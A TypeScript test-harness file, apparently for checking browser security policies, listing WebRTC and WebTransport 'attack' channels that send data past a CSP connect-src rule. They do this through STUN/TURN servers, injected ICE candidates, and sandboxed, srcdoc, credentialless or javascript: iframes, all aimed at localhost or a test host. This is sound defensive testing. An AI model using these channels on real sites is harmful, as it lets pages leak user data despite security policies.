import type { Channel } from "./channel.ts";

/** Peer connections and datagrams, which `connect-src` doesn't cover. */
export const PEERS: readonly Channel[] = [
  {
    id: "rtc_stun_udp",
    family: "peer",
    entry: 13,
    attack: async (t) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${t.udp}` }] });
      peer.createDataChannel("leak");
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    id: "rtc_stun_dns",
    family: "peer",
    entry: 15,
    attack: async (t) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${t.host}:${t.udp}` }] });
      peer.createDataChannel("leak");
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    id: "rtc_turn_tcp",
    family: "peer",
    entry: 14,
    attack: async (t) => {
      const urls = `turn:127.0.0.1:${t.tcp}?transport=tcp`;
      const peer = new RTCPeerConnection({
        iceServers: [{ urls, username: "secret", credential: "any" }],
      });
      peer.createDataChannel("leak");
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    // A page that took the constructor away would find it again in a fresh realm.
    id: "rtc_nested_realm",
    family: "peer",
    entry: 16,
    attack: async (t) => {
      const realm = t.element("iframe", {}).contentWindow as (Window & typeof globalThis) | null;
      if (!realm) return;
      const peer = new realm.RTCPeerConnection({
        iceServers: [{ urls: `stun:127.0.0.1:${t.udp}` }],
      });
      peer.createDataChannel("leak");
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    id: "webtransport",
    family: "peer",
    entry: 4,
    attack: (t) => new WebTransport(`https://${t.host}:${t.udp}/secret`).ready,
  },
  {
    id: "rtc_turns_tls",
    family: "peer",
    entry: 14,
    attack: async (t) => {
      const urls = `turns:${t.host}:${t.tcp}?transport=tcp`;
      const peer = new RTCPeerConnection({
        iceServers: [{ urls, username: "secret", credential: "x" }],
        iceTransportPolicy: "relay",
      });
      peer.createDataChannel("leak");
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    id: "rtc_remote_candidate",
    family: "peer",
    entry: 13,
    attack: async (t) => {
      const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()];
      one.createDataChannel("leak");
      await one.setLocalDescription(await one.createOffer());
      await other.setRemoteDescription(one.localDescription as RTCSessionDescription);
      await other.setLocalDescription(await other.createAnswer());
      await one.setRemoteDescription(other.localDescription as RTCSessionDescription);
      const candidate = `candidate:1 1 udp 2122260223 127.0.0.1 ${t.udp} typ host`;
      await one.addIceCandidate({ candidate, sdpMid: "0" });
    },
  },
  {
    id: "rtc_srcdoc",
    family: "peer",
    entry: 16,
    attack: (t) => {
      const script = `(async()=>{const p=new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:${t.udp}"}]});p.createDataChannel("x");await p.setLocalDescription(await p.createOffer())})()`;
      t.element("iframe", { srcdoc: `<script>${script}</script>` });
    },
  },
  {
    id: "rtc_srcdoc_box",
    family: "peer",
    entry: 16,
    attack: (t) => {
      const script = `(async()=>{const p=new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:${t.udp}"}]});p.createDataChannel("x");await p.setLocalDescription(await p.createOffer())})()`;
      t.element("iframe", { sandbox: "allow-scripts", srcdoc: `<script>${script}</script>` });
    },
  },
  {
    id: "rtc_credentialless",
    family: "peer",
    entry: 16,
    attack: (t) => {
      const script = `(async()=>{const p=new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:${t.udp}"}]});p.createDataChannel("x");await p.setLocalDescription(await p.createOffer())})()`;
      t.element("iframe", { credentialless: "", srcdoc: `<script>${script}</script>` });
    },
  },
  {
    id: "rtc_javascript_frame",
    family: "peer",
    entry: 16,
    attack: (t) => {
      const script = `(async()=>{const p=new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:${t.udp}"}]});p.createDataChannel("x");await p.setLocalDescription(await p.createOffer())})()`;
      t.element("iframe", { src: `javascript:void(${script})` });
    },
  },
];
